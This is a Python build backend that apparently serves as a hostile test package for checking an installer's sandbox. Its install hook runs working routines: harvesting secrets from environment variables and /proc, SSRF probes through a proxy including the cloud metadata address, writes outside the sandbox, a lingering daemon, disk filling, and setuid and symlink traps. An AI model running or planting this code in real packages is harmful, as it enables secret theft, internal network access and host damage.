"""A package whose installation is the attack. It builds itself, so that nothing has to be fetched for it."""

from __future__ import annotations

import base64
import glob
import hashlib
import json
import os
import socket
import sys
import time
import zipfile
from pathlib import Path

HERE = Path(__file__).resolve().parent
GIVEN = json.loads((HERE / "given.json").read_text())
PROXY = ("127.0.0.1", 3128)


def build_wheel(wheel_directory: str, config_settings: object = None, metadata_directory: object = None) -> str:
    tell(tried=True)
    for mode in GIVEN["modes"]:
        try:
            tell(mode=mode, found=MODES[mode]())
        except Exception as error:
            tell(mode=mode, broken=f"{type(error).__name__}: {error}")
    return _wheel(Path(wheel_directory))


def look_around() -> list[str]:
    """The host's files and variables, from what may be a better place than a run's."""
    found = [path for path in GIVEN["planted"] if GIVEN["secret"].encode() in _content(path)]
    found += [path for path in GIVEN["places"] if os.path.isdir(path) and _is_more_than_a_way(path)]
    texts = [repr(dict(os.environ)).encode(), *(_content(path) for path in glob.glob("/proc/[0-9]*/environ"))]
    return found + ["the planted variable" for text in texts if GIVEN["secret"].encode() in text]


def reach_out() -> list[str]:
    """Services of the host and other machines: directly, and through the proxy under every name it might let pass."""
    port = GIVEN["port"]
    found = [f"{host}:{port}" for host in ("127.0.0.1", "::1", *GIVEN["addresses"]) if _connects(host, port)]
    names = ["127.0.0.1", "localhost", "[::1]", "2130706433", "0x7f000001", "0", "127.1", "[::ffff:127.0.0.1]"]
    targets = [f"{name}:{port}" for name in (*names, *GIVEN["addresses"])]
    targets += [f"pypi.org@127.0.0.1:{port}", f"pypi.org:443@127.0.0.1:{port}", "169.254.169.254:80", "example.com:443"]
    targets += [f"{host}:22" for host in GIVEN["index_hosts"]] + [f"{host}:{port}" for host in GIVEN["index_hosts"]]
    for target in targets:
        for request in (f"CONNECT {target} HTTP/1.1", f"GET http://{target}/ HTTP/1.1", f"GET //{target}/ HTTP/1.1"):
            answer = _asked(f"{request}\r\nHost: {target}\r\n\r\n".encode())
            if b" 200" in answer[:16] or b"visited" in answer:
                found.append(request)
    return found


def write_elsewhere() -> list[str]:
    """Folders outside /env, other environments among them."""
    found = []
    for folder in ["/", "/usr", "/usr/lib", "/opt/amend", "/etc", *GIVEN["writable_traps"], *GIVEN["places"]]:
        path = os.path.join(folder, f"planted-{GIVEN['mark']}")
        try:
            with open(path, "w") as file:
                file.write("print('poisoned')")
        except OSError:
            continue
        found.append(folder)
    return found


def leave_a_daemon() -> list[str]:
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            os.closerange(0, 64)
            os.execv(sys.executable, [sys.executable, "-c", "import time; time.sleep(25)", GIVEN["mark"]])
        os._exit(0)
    time.sleep(0.3)
    return []


def fill_the_disk() -> list[str]:
    """Files in /env, half of them without a name any more."""
    kept = []
    for number in range(GIVEN["megabytes"]):
        kept.append(open(f"/env/flood-{number}", "wb"))  # noqa: SIM115 - they stay open on purpose
        kept[-1].write(b"x" * 2**20)
        kept[-1].flush()
    return [f"{len(kept)} MB"]


def lay_traps() -> list[str]:
    """What a trusting reader of the environment would stumble over: links, a pipe, secret rights, odd names."""
    packages = next(iter(Path("/env/lib").glob("python3*/site-packages")))
    os.symlink(GIVEN["planted"][0], packages / "link.py")
    os.symlink(GIVEN["open_folder"], packages / "linked-1.0.dist-info")
    os.symlink("/", "/env/root-of-the-host")
    os.mkfifo(packages / "pipe-1.0.dist-info")
    for name in ("bad\udcff-1.0.dist-info", "x" * 200 + "-1.0.dist-info", "new\nline-1.0.dist-info"):
        os.mkdir(os.fsencode(str(packages)) + b"/" + os.fsencode(name))
    program = packages / "becomes-root"
    program.write_bytes(b"\x7fELF")
    program.chmod(0o6777)
    (packages / "closed").mkdir(mode=0)
    return []


def dig_deep() -> list[str]:
    """Folders in folders, deeper than any path may be long."""
    os.chdir("/env")
    for _ in range(1_500):
        os.mkdir("deeper")
        os.chdir("deeper")
    os.chdir(HERE)
    return []


MODES = {
    mode.__name__: mode
    for mode in (look_around, reach_out, write_elsewhere, leave_a_daemon, fill_the_disk, lay_traps, dig_deep)
}


def tell(**facts: object) -> None:
    """Into the environment, for installers keep to themselves what a build prints."""
    with open("/env/told.jsonl", "a") as file:
        file.write(json.dumps(facts) + "\n")


def _wheel(folder: Path) -> str:
    """The smallest package there is."""
    name = "hostile-1.0-py3-none-any.whl"
    contents = {
        "hostile.py": b"",
        "hostile-1.0.dist-info/METADATA": b"Metadata-Version: 2.1\nName: hostile\nVersion: 1.0\n",
        "hostile-1.0.dist-info/WHEEL": b"Wheel-Version: 1.0\nGenerator: x\nRoot-Is-Purelib: true\nTag: py3-none-any\n",
    }
    record = "hostile-1.0.dist-info/RECORD"
    lines = []
    with zipfile.ZipFile(folder / name, "w") as wheel:
        for path, content in contents.items():
            wheel.writestr(path, content)
            digest = base64.urlsafe_b64encode(hashlib.sha256(content).digest()).decode().rstrip("=")
            lines.append(f"{path},sha256={digest},{len(content)}")
        wheel.writestr(record, "\n".join([*lines, f"{record},,"]))
    return name


def _is_more_than_a_way(path: str) -> bool:
    """Whether a folder has more in it than the way to what is mounted on purpose."""
    try:
        entries = [os.path.join(path, name) for name in os.listdir(path)]
    except OSError:
        return False
    return any(not any(f"{mounted}/".startswith(f"{entry}/") for mounted in GIVEN["mounted"]) for entry in entries)


def _content(path: str) -> bytes:
    try:
        with open(path, "rb") as file:
            return file.read(65536)
    except OSError:
        return b""


def _connects(host: str, port: int) -> bool:
    try:
        socket.create_connection((host, port), 1).close()
    except OSError:
        return False
    return True


def _asked(request: bytes) -> bytes:
    try:
        with socket.create_connection(PROXY, 3) as connection:
            connection.settimeout(3)
            connection.sendall(request)
            return connection.recv(4096)
    except OSError:
        return b""
